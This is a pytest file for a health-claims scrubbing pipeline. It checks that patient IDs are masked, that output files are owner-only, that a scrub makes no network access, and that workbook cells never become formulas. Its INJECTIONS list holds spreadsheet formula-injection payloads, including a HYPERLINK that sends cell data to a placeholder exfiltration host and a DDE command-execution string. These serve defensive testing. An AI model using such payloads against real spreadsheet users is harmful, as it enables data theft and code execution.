"""Protected health information: patient ids masked in every report and log, Dagster events carry counts,
files owner-only, no workbook cell made a formula by input, and no network access during a scrub."""

import json
import os
import re
import socket
import stat
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from pipelines.cli import main, materialize
from pipelines.resources import duckdb_resource

from .corpus import row, text_export
from .helpers import scrub

PATIENTS = ["PHI-PATIENT-0001", "PHI-PATIENT-0002", "PHI-PATIENT-0003"]
# Cells a hostile or careless export might hold, meant to run as formulas or links when opened in Excel.
INJECTIONS = ['=HYPERLINK("http://exfiltrate.invalid/?d="&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
              "@SUM(1)", "=1+1"]


def _export(tmp_path: Path) -> Path:
    rows = [row("PHI-CLAIM-1", patient=PATIENTS[0]),
            row("PHI-CLAIM-2", patient=PATIENTS[1], **{"Dx 1": ""}),  # DX_MISSING: it reaches the workbook
            row("PHI-CLAIM-3", patient=PATIENTS[2], Units="0")]       # quarantined
    rows += [row(text, patient=PATIENTS[0], Line=str(n), Payer=text, **{"Dx 1": ""})
             for n, text in enumerate(INJECTIONS, start=2)]
    return text_export(tmp_path / "phi.csv", rows)


def _all_text(folder: Path) -> str:
    """Every byte a user could open in the folder, the workbook's XML parts included."""
    text = []
    for path in folder.rglob("*"):
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as book:
                text += [book.read(name).decode("utf-8", "replace") for name in book.namelist()]
        elif path.is_file() and path.suffix != ".duckdb" and ".duckdb." not in path.name:
            text.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(text)


def test_patient_ids_appear_in_no_report_log_or_dagster_event(tmp_path, db_path, isolated_home):
    result = materialize([_export(tmp_path)], tmp_path / "out", str(db_path))
    assert result.success
    summary = json.loads((tmp_path / "out" / "summary.json").read_text())
    assert (summary["lines_scrubbed"], summary["rows_quarantined"]) == (2 + len(INJECTIONS), 1)

    reports = _all_text(tmp_path / "out") + _all_text(isolated_home)
    assert not [p for p in PATIENTS if p in reports]
    assert "P-" in reports, "the masked id stands in for the patient"

    # Dagster keeps events (and, for the nightly job, writes them to its storage): counts only.
    events = "\n".join(repr(event) for event in result.all_events)
    assert not [p for p in PATIENTS if p in events]
    assert "PHI-CLAIM" not in events
    rows_read = [e for e in result.get_asset_materialization_events() if "rows_read" in repr(e)]
    assert rows_read, "the counts are there"


def test_show_ids_is_the_only_way_to_see_patient_ids(tmp_path, db_path):
    run = scrub([_export(tmp_path)], tmp_path / "out", db_path, "--show-ids")
    assert run.exit_code == 0, run.stderr
    assert {line["patient"] for line in run.lines} == {PATIENTS[0], PATIENTS[1]}


@pytest.fixture(scope="module")
def first_run(tmp_path_factory):
    """A site's first scrub, with every network call refused: it makes its database (loading the bundled
    releases), its secret and its reports."""
    folder = tmp_path_factory.mktemp("first-run")
    home, out = folder / "home", folder / "reports" / "tonight"
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network access during a scrub")

    with pytest.MonkeyPatch.context() as env:
        env.setenv("CLAIMSCRUB_HOME", str(home))
        for name in ("connect", "connect_ex", "sendto"):
            env.setattr(socket.socket, name, refuse)
        env.setattr(socket, "getaddrinfo", refuse)
        env.setattr(socket, "create_connection", refuse)
        run = scrub([_export(folder)], out, home / "claimscrub.duckdb")
    assert run.exit_code == 0, run.stderr
    return run, home, attempts


def test_reports_database_and_secret_are_readable_by_the_owner_only(first_run):
    run, home, _ = first_run
    out = run.out_dir
    private = [*out.iterdir(), home / "claimscrub.duckdb", home / "site-secret"]
    assert {p.name: stat.S_IMODE(os.stat(p).st_mode) & 0o077 for p in private} == {p.name: 0 for p in private}
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o700


def test_every_command_makes_its_files_owner_only(tmp_path):
    # A per-shard site starts with `db init`: its shard files will hold patient ids in clear.
    os.umask(0o022)  # as a login shell leaves it
    site = tmp_path / "site" / "claimscrub.duckdb"
    result = CliRunner().invoke(main, ["db", "init", "--shards", "2", "--layout", "per-shard", "--db", str(site)])
    assert result.exit_code == 0, result.stderr
    made = [site.parent, *site.parent.iterdir()]
    assert {p.name: stat.S_IMODE(os.stat(p).st_mode) & 0o077 for p in made} == {p.name: 0 for p in made}


def test_no_workbook_cell_becomes_a_formula_link_or_macro(first_run):
    path = first_run[0].out_dir / "denial-risk-report.xlsx"
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert set(INJECTIONS) <= values, "each hostile text is shown exactly as it was"
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        parts = {n: archive.read(n).decode() for n in names if n.endswith((".xml", ".rels"))}
    xml = "".join(text for n, text in parts.items() if not n.startswith("xl/charts/"))
    assert not [n for n in names if "vba" in n.lower() or "externalLink" in n]
    assert not re.search(r"<(\w+:)?f[\s>/]", xml), "a formula element"
    # A chart's only formulas are the ranges of the Summary sheet it draws.
    charts = "".join(text for n, text in parts.items() if n.startswith("xl/charts/"))
    assert all(re.fullmatch(r"'Summary'!\$?[A-Z]+\$?\d+(:\$?[A-Z]+\$?\d+)?", f)
               for f in re.findall(r"<(?:\w+:)?f>(.*?)</(?:\w+:)?f>", charts))
    assert "<hyperlink" not in xml and "relationships/hyperlink" not in xml


def test_a_scrub_makes_no_network_access(first_run):
    run, home, attempts = first_run
    assert attempts == []
    # DuckDB's own network path: fetching an extension it lacks. A scrub's connections never do.
    with duckdb_resource(str(home / "claimscrub.duckdb")).get_connection() as con:
        settings = con.execute("""select current_setting('autoinstall_known_extensions'),
                                         current_setting('autoload_known_extensions')""").fetchall()
    assert settings == [(False, False)]


def test_the_site_secret_is_whole_owner_only_and_stable(isolated_home):
    from pipelines.settings import site_secret

    first = site_secret()
    assert len(first) == 64 and site_secret() == first
    assert stat.S_IMODE(os.stat(isolated_home / "site-secret").st_mode) == 0o600
    assert not list(isolated_home.glob(".site-secret-*"))


def test_a_run_launched_through_dagster_makes_its_reports_owner_only(db_path, tmp_path):
    """The daemon and the UI start under a login's umask (022): a run they launch writes its reports as the
    command does, owner-only, for they hold patient data."""
    export = text_export(tmp_path / "claims.csv", [row("U1", patient="PT-UMASK")])
    before = os.umask(0o022)
    try:
        result = materialize([export], tmp_path / "reports" / "night", str(db_path))
    finally:
        os.umask(before)
    assert result.success
    made = [tmp_path / "reports" / "night", *(tmp_path / "reports" / "night").iterdir()]
    assert {p.name: stat.S_IMODE(os.stat(p).st_mode) & 0o077 for p in made} == {p.name: 0 for p in made}
